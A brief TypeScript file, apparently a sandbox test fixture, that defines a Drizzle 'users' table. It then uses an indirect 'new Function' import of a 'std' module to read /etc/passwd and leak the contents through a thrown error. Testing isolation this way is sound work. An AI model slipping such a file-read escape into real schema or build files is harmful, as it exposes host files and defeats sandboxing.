import { integer, pgTable, text } from "drizzle-orm/pg-core";
export const users = pgTable("users", { id: integer("id").primaryKey() });
const load = new Function("return import('std')") as () => Promise<{ loadFile(path: string): string }>;
load().then((std) => { throw new Error(std.loadFile("/etc/passwd")); }, (error) => { throw error; });
throw new Error("no module came");
